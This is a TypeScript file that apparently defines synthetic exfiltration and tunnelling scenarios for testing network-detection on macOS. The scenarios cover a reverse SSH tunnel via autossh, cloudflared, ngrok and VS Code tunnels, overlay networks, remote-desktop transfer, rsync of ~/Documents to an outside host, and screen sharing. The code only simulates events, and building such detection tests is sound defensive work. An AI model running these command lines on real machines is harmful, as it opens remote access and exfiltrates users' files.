import { inventWord } from '../invent.js';
import { SECOND } from '../machine.js';
import {
  adHoc,
  appStore,
  apple,
  copiedTo,
  developerId,
  FINDER,
  RSYNC,
  SHARINGD,
  SSH,
} from '../fleet/programs.js';
import type { Attack } from './scenario.js';

function attack(scenario: Omit<Attack, 'kind'>): Attack {
  return { kind: 'attack', ...scenario };
}

const CLOUDFLARED = adHoc('/opt/homebrew/Cellar/cloudflared/2024.6.1/bin/cloudflared', 'a.out');
const NGROK = developerId('/opt/homebrew/bin/ngrok', 'a.out', 'TEX8MHRDQ9', 'ngrok LLC');
const CODE_TUNNEL = developerId(
  '/Applications/Visual Studio Code.app/Contents/Resources/app/bin/code-tunnel',
  'code-tunnel',
  'UBF8T346G9',
  'Microsoft Corporation',
);

export const TUNNELS: readonly Attack[] = [
  attack({
    id: 'A39',
    title: 'Reverse SSH tunnel on 443, idle then a burst',
    difficulty: 'must',
    techniques: ['T1572'],
    uses: ['ssh'],
    presence: 'any',
    campaign: 777_600,
    play: (stage) => {
      const to = stage.random.chance(0.5) ? stage.rawAddress(443) : stage.rented(443, 'gw');
      const target = `u@${to.name === '' ? to.ip : to.name}`;
      const parent = stage.exec(adHoc('/opt/homebrew/Cellar/autossh/1.4g/bin/autossh', 'autossh'), {
        args: ['autossh', '-M', '0', '-N', '-R', '2222:localhost:22', target, '-p', '443'],
      });
      const ssh = stage.exec(SSH, {
        args: ['/usr/bin/ssh', '-N', '-R', '2222:localhost:22', target, '-p', '443'],
        parent,
        at: stage.start + SECOND,
      });
      const campaign = stage.around(777_600, 1.3);
      const left = Math.min(1, (stage.end - stage.start) / SECOND / campaign);
      stage.send({
        from: ssh,
        to,
        connections: 1,
        seconds: campaign,
        out: stage.around(40e6),
        in: 30e6,
        campaign,
      });
      // The burst runs inside a second connection, so that only one of them is big.
      stage.send({
        from: ssh,
        to,
        connections: 1,
        seconds: 4 * 3600,
        out: stage.around(2e9) * Math.max(0.3, left),
        in: 60e6,
        campaign: 4 * 3600,
        at: stage.start + (stage.end - stage.start) * stage.random.between(0.3, 0.8),
      });
    },
  }),
  attack({
    id: 'A40',
    title: 'Quick tunnel that publishes a local server',
    difficulty: 'must',
    techniques: ['T1572', 'T1090.002'],
    uses: ['cloudflared'],
    presence: 'active',
    campaign: 28_800,
    play: (stage) => {
      const program = stage.random.chance(0.5)
        ? CLOUDFLARED
        : copiedTo(CLOUDFLARED, `${stage.home}/.local/bin/${inventWord(stage.random)}`);
      const process = stage.command(program, [
        program.executable.slice(program.executable.lastIndexOf('/') + 1),
        'tunnel',
        '--url',
        'http://localhost:8000',
      ]);
      stage.connect(process, {
        at: stage.start + SECOND,
        seconds: 3,
        out: 1200,
        in: 6000,
        to: stage.named('api.trycloudflare.com'),
      });
      const quic = stage.random.chance(0.7);
      stage.send({
        from: process,
        to: (index) => stage.named(`region${(index % 2) + 1}.v2.argotunnel.com`, 7844),
        connections: 4,
        seconds: stage.around(28_800, 1.4),
        out: stage.around(5e9),
        in: stage.around(300e6),
        campaign: 28_900,
        transport: quic ? 'quic' : 'tcp',
      });
    },
  }),
  attack({
    id: 'A41',
    title: 'Tunnel by a tool with a trusted signature',
    difficulty: 'must',
    techniques: ['T1572', 'T1219.001'],
    uses: ['ngrok', 'code-tunnel'],
    presence: 'active',
    campaign: 18_000,
    play: (stage) => {
      const ngrok = stage.random.chance(0.6);
      const process = ngrok
        ? stage.command(NGROK, ['ngrok', 'http', '8000'])
        : stage.command(CODE_TUNNEL, ['code-tunnel', 'tunnel', '--accept-server-license-terms']);
      const to = ngrok
        ? stage.named('connect.ngrok-agent.com')
        : stage.named('euw.tunnels.api.visualstudio.com');
      stage.send({
        from: process,
        to,
        connections: 3,
        seconds: stage.around(18_000, 1.5),
        out: stage.around(900e6),
        in: stage.around(60e6),
        campaign: 18_100,
      });
    },
  }),
  attack({
    id: 'A43',
    title: 'Personal overlay network to storage at home',
    difficulty: 'should',
    techniques: ['T1572', 'T1048.001'],
    uses: ['tailscale'],
    presence: 'active',
    campaign: 14_400,
    play: (stage) => {
      const tailscale = stage.random.chance(0.7);
      const carrier = tailscale
        ? appStore(
            '/Applications/Tailscale.app/Contents/PlugIns/IPNExtension.appex/Contents/MacOS/IPNExtension',
            'io.tailscale.ipn.macos.network-extension',
            'W5364U7YZB',
          )
        : developerId(
            '/Library/Application Support/ZeroTier/One/zerotier-one',
            'zerotier-one',
            '8ZD9JUCZ4V',
            'ZeroTier, Inc.',
          );
      const process = stage.exec(carrier, tailscale ? {} : { user: 'root' });
      const out = stage.around(80e9);
      const campaign = stage.around(14_400, 1.4);
      if (tailscale)
        stage.send({
          from: process,
          to: stage.named('controlplane.tailscale.com'),
          connections: 1,
          seconds: campaign,
          out: 90e3,
          in: 200e3,
          campaign,
        });
      stage.send({
        from: process,
        to: stage.residential(tailscale ? 41641 : 9993),
        connections: 2,
        seconds: campaign,
        out,
        in: out / 80,
        campaign,
        transport: 'udp',
      });
      const inner = stage.exec(stage.random.chance(0.5) ? FINDER : RSYNC);
      stage.send({
        from: inner,
        to: {
          name: '',
          ip: `100.${stage.random.integer(64, 127)}.3.${stage.random.integer(2, 250)}`,
          port: 445,
        },
        connections: 1,
        seconds: campaign,
        out: out * 0.97,
        in: out / 100,
        campaign,
        interface: 'utun4',
      });
    },
  }),
  attack({
    id: 'A44',
    title: 'File transfer over a remote-desktop tool',
    difficulty: 'should',
    techniques: ['T1219.002'],
    uses: ['anydesk'],
    presence: 'active',
    campaign: 7200,
    play: (stage) => {
      const [program, names, port] = stage.random.pick([
        [
          developerId(
            '/Applications/AnyDesk.app/Contents/MacOS/AnyDesk',
            'com.philandro.anydesk',
            'KHRWM533LU',
            'philandro Software GmbH',
          ),
          ['relay-3a1b.net.anydesk.com', 'relay-9c2e.net.anydesk.com'],
          443,
        ],
        [
          developerId(
            '/Applications/TeamViewer.app/Contents/MacOS/TeamViewer_Desktop',
            'com.teamviewer.TeamViewer',
            'H7UGFBUGV6',
            'TeamViewer Germany GmbH',
          ),
          ['router15.teamviewer.com', 'client.teamviewer.com'],
          5938,
        ],
      ] as const);
      const process = stage.exec(program);
      stage.send({
        from: process,
        to: () => stage.named(stage.random.pick(names), port),
        connections: 3,
        seconds: stage.around(7200, 1.5),
        out: stage.around(4e9),
        in: stage.around(250e6),
        campaign: 7300,
      });
    },
  }),
  attack({
    id: 'A60',
    title: 'Bulk copy over another medium',
    difficulty: 'should',
    techniques: ['T1011'],
    uses: ['rsync', 'sharingd'],
    presence: 'active',
    campaign: 900,
    play: (stage) => {
      const out = stage.around(30e9);
      const seconds = stage.around(900, 1.5);
      const way = stage.random.weighted([
        ['hotspot', 5],
        ['airdrop', 2.5],
        ['nas', 2.5],
      ] as const);
      if (way === 'hotspot') {
        const to = stage.residential(22);
        const rsync = stage.command(RSYNC, ['rsync', '-a', `${stage.home}/Documents`, `h@${to.ip}:/v/`]);
        const ssh = stage.exec(SSH, {
          args: ['/usr/bin/ssh', '-l', 'h', to.ip, 'rsync', '--server'],
          parent: rsync,
        });
        stage.send({
          from: ssh,
          to,
          connections: 4,
          seconds,
          out,
          in: out / 150,
          campaign: seconds * 2,
          interface: 'en5',
        });
      } else if (way === 'airdrop') {
        stage.send({
          from: stage.through(['sharingd'], SHARINGD),
          to: { name: '', ip: `fe80::${stage.random.hex(4)}:84ff:fe${stage.random.hex(2)}:11`, port: 8770 },
          connections: 4,
          seconds,
          out,
          in: out / 150,
          campaign: seconds * 2,
          interface: 'awdl0',
        });
      } else {
        stage.send({
          from: stage.exec(FINDER),
          to: { name: '', ip: `192.168.77.${stage.random.integer(2, 90)}`, port: 445 },
          connections: 4,
          seconds,
          out,
          in: out / 150,
          campaign: seconds * 2,
        });
      }
    },
  }),
  attack({
    id: 'A62',
    title: 'Screen streamed to a viewer outside',
    difficulty: 'should',
    techniques: ['T1021.005', 'T1113'],
    uses: ['screensharing'],
    presence: 'active',
    campaign: 7200,
    play: (stage) => {
      const process = stage.exec(
        apple(
          '/System/Library/CoreServices/RemoteManagement/screensharingd.bundle/Contents/MacOS/screensharingd',
          'com.apple.screensharing',
        ),
        { user: 'root' },
      );
      const viewer = stage.random.chance(0.5)
        ? stage.rawAddress(stage.random.integer(49_200, 65_000))
        : stage.residential(stage.random.integer(49_200, 65_000));
      const seconds = stage.around(7200);
      const out = stage.around(1.5e9);
      stage.connect(process, {
        at: stage.start + SECOND,
        seconds,
        out,
        in: out / 37,
        to: viewer,
        direction: 'ingress',
        localPort: 5900,
      });
    },
  }),
];
